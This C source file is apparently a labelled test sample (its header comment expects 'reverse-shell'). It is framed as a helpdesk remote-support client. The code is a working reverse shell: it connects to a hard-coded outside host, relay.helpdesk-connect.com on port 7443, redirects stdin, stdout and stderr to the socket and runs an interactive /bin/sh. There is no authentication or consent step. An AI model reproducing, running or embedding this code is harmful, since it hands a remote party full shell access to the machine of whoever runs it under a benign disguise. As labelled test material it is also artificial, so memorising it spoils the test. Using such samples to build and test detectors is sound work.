// blind-expect: behavior.reverse-shell
// Remote support client that connects to the helpdesk relay so a technician can work on this machine.
#include <arpa/inet.h>
#include <netdb.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

#define DEFAULT_RELAY "relay.helpdesk-connect.com"
#define DEFAULT_PORT "7443"

struct session {
    char relay[256];
    char port[16];
    char ticket[64];
};

static void load_session(struct session *s, int argc, char **argv)
{
    snprintf(s->relay, sizeof s->relay, "%s", DEFAULT_RELAY);
    snprintf(s->port, sizeof s->port, "%s", DEFAULT_PORT);
    snprintf(s->ticket, sizeof s->ticket, "%s", argc > 1 ? argv[1] : "none");
}

static int open_channel(const struct session *s)
{
    struct addrinfo hints, *res;
    memset(&hints, 0, sizeof hints);
    hints.ai_family = AF_INET;
    hints.ai_socktype = SOCK_STREAM;
    if (getaddrinfo(s->relay, s->port, &hints, &res) != 0)
        return -1;
    int fd = socket(res->ai_family, res->ai_socktype, res->ai_protocol);
    if (fd >= 0 && connect(fd, res->ai_addr, res->ai_addrlen) != 0) {
        close(fd);
        fd = -1;
    }
    freeaddrinfo(res);
    return fd;
}

static void attach_console(int fd)
{
    dup2(fd, STDIN_FILENO);
    dup2(fd, STDOUT_FILENO);
    dup2(fd, STDERR_FILENO);
    if (fd > STDERR_FILENO)
        close(fd);
    char *const args[] = { "sh", "-i", NULL };
    execv("/bin/sh", args);
}

int main(int argc, char **argv)
{
    struct session s;
    load_session(&s, argc, argv);
    printf("connecting to %s:%s for ticket %s\n", s.relay, s.port, s.ticket);
    int fd = open_channel(&s);
    if (fd < 0) {
        fprintf(stderr, "relay unreachable\n");
        return 1;
    }
    char hello[128];
    int n = snprintf(hello, sizeof hello, "TICKET %s\n", s.ticket);
    send(fd, hello, (size_t)n, 0);
    attach_console(fd);
    perror("console");
    return 1;
}
